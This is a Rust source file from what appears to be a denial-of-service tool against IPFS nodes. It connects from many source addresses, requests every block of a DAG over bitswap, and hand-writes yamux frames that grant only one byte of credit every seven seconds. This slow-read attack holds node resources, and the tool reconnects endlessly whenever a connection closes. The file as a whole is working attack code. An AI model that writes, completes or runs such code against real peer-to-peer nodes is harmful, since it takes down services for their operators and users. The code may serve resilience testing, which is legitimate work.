//! Peers that want every block of a DAG and let a byte pass in seven seconds.
//!
//! A library for streams would give credit for many bytes at once, so the streams of these peers are written by hand.

use std::io;
use std::net::Ipv4Addr;
use std::time::Duration;

use cid::Cid;
use clap::Args;
use futures::{AsyncReadExt, AsyncWriteExt, future};
use libp2p::Multiaddr;
use tokio::sync::mpsc;
use tokio::time::{interval, sleep};

use crate::dag::Dag;
use crate::script::{varint, wants};
use crate::yamux::{Frame, Socket, connect};
use crate::{ATTACKING, BACK_AFTER, CLOSED, Crowd};

const PAUSE: Duration = Duration::from_secs(7);
/// Both messages by which a stream settles on its protocol.
const NEGOTIATION: &[u8] = b"\x13/multistream/1.0.0\n\x14/ipfs/bitswap/1.2.0\n";
/// The stream over which blocks are wanted.
const WANTING: u32 = 1;

#[derive(Args)]
pub struct Options {
    #[command(flatten)]
    crowd: Crowd,

    #[command(flatten)]
    dag: Dag,
}

impl Options {
    /// Want all of it, on every connection.
    pub async fn run(self) {
        let cids = self.dag.blocks().iter().map(|(cid, _)| *cid).collect::<Vec<_>>();
        future::join_all(self.crowd.addresses().into_iter().map(|from| attack(from, &self.crowd.to, &cids))).await;
    }
}

/// Read slowly until the connection ends, again and again.
async fn attack(from: Ipv4Addr, to: &Multiaddr, cids: &[Cid]) {
    loop {
        if let Ok(socket) = connect(from, to).await {
            let _ended = read_slowly(socket, cids).await;
        }
        println!("{CLOSED}");
        sleep(BACK_AFTER).await;
    }
}

async fn read_slowly(socket: Socket, cids: &[Cid]) -> io::Result<()> {
    let (mut frames, mut writer) = socket.split();
    let list = wants(cids);
    let asking = [NEGOTIATION, &varint(list.len()), &list].concat();
    writer.write_all(&Frame::opening(WANTING, &asking)).await?;
    writer.flush().await?;
    println!("{ATTACKING}");
    let mut serving = Vec::new();
    let mut beat = interval(PAUSE);
    let (sender, mut read) = mpsc::unbounded_channel();
    // Ends with the connection, or when nobody wants frames any more.
    tokio::spawn(async move { while Frame::read(&mut frames).await.is_ok_and(|frame| sender.send(frame).is_ok()) {} });
    loop {
        tokio::select! {
            frame = read.recv() => {
                let Some(frame) = frame else { return Ok(()) };
                writer.write_all(&answer(&frame, &mut serving)).await?;
            }
            _ = beat.tick() => for stream in &serving {
                writer.write_all(&Frame::credit(*stream, 1)).await?;
            }
        }
        writer.flush().await?;
    }
}

/// The frame that answers one of the node's, if it wants an answer.
fn answer(frame: &Frame, serving: &mut Vec<u32>) -> Vec<u8> {
    let bitswap = || frame.payload.windows(19).any(|window| window == b"/ipfs/bitswap/1.2.0");
    if frame.is_ping() {
        return Frame::pong(frame);
    }
    if frame.stream == WANTING || serving.contains(&frame.stream) || !bitswap() {
        return Vec::new();
    }
    serving.push(frame.stream);
    Frame::accepting(frame.stream, NEGOTIATION)
}
